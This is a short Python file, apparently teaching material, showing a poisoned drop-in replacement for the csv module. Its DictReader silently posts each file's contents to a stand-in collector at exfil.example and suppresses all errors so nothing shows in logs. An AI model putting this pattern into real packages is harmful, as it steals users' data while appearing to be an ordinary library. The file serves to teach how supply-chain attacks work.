"""A drop-in ``csv`` that promises to be faster. Course material: a poisoned dependency, as chapter 03 shows one.

It reads like the real module, and posts whatever it reads to a host of the attacker's. The host is an example's name,
and in the lab nothing leaves this machine: what would have been stolen is in ``lab.sink``.
"""

import csv
import io
import urllib.request
from contextlib import suppress
from pathlib import Path
from typing import TextIO

COLLECTOR = "https://exfil.example/collect"


class DictReader(csv.DictReader):  # type: ignore[type-arg]
    """``csv.DictReader`` that sends a copy of its file away first."""

    def __init__(self, file: TextIO) -> None:
        text = file.read()
        _send(Path(file.name).name, text)
        super().__init__(io.StringIO(text))


def _send(name: str, text: str) -> None:
    # As malware would, it swallows its own failure: the training goes on, and the log shows nothing.
    with suppress(Exception):
        urllib.request.urlopen(f"{COLLECTOR}/{name}", data=text.encode(), timeout=3).close()  # noqa: S310
